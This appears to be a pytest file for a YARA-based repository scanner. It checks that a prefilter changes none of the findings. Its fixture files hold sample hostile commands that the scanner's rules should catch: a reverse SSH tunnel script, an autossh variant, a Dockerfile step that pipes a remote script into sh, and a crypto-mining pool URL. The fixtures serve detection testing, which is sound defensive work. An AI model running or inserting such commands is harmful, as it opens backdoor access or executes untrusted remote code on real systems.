"""A little repository is matched by YARA alone, without a prefilter: the same is found."""

import gzip
from dataclasses import replace
from pathlib import Path

import pytest

from scanner.checking import check, judging
from scanner.checking.picking import KEPT
from scanner.model import Report
from scanner.prefilter import Prefilter
from tests.checking.repository import said, written

TUNNEL = "#!/bin/sh\nssh -N -R 2222:localhost:22 u@h.example\n"
FILES: dict[str, str | bytes] = {
    ".git/HEAD": "",
    "Dockerfile": "FROM debian:12\nCOPY run.sh /run.sh\nRUN curl -s https://x.example/i | sh\nENTRYPOINT /run.sh\n",
    "run.sh": TUNNEL,
    "notes.txt": "auto" + "ssh -M 0 -N -R 2222:localhost:22 u@h.example\n",
    "conf.py": "URL = 'stratum" + "+tcp://pool.example:3333'\n",
    "picture.png": b"\x89PNG\r\n\x1a\n" + bytes(5000),
}


@pytest.fixture
def prefilters(monkeypatch: pytest.MonkeyPatch) -> list[Prefilter]:
    """Those that were made."""
    made: list[Prefilter] = []
    init = Prefilter.__init__

    def told(self: Prefilter, *arguments: object) -> None:
        made.append(self)
        init(self, *arguments)  # type: ignore[arg-type]

    monkeypatch.setattr(Prefilter, "__init__", told)
    return made


def timeless(report: Report) -> Report:
    return replace(report, started="", statistics={**report.statistics, "seconds": 0})


def test_the_same_is_found_with_and_without_a_prefilter(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, prefilters: list[Prefilter]
) -> None:
    root = written(tmp_path, FILES)
    without = check([root])
    assert not prefilters
    monkeypatch.setattr(judging, "LITTLE", 0)
    with_it = check([root])
    assert prefilters
    assert timeless(without) == timeless(with_it)
    assert {(rule, file) for rule, file, *_ in said(without)} >= {
        ("tunnel/reverse-ssh", "run.sh"),
        ("build/remote-script", "Dockerfile"),
    }


@pytest.mark.parametrize("packed", [gzip.compress(TUNNEL.encode() * 200, mtime=0), b"x" * (KEPT + 1)])
def test_what_may_unpack_to_more_or_is_large_is_filtered(
    tmp_path: Path, prefilters: list[Prefilter], packed: bytes
) -> None:
    check([written(tmp_path, {**FILES, "data.bin": packed})])
    assert prefilters
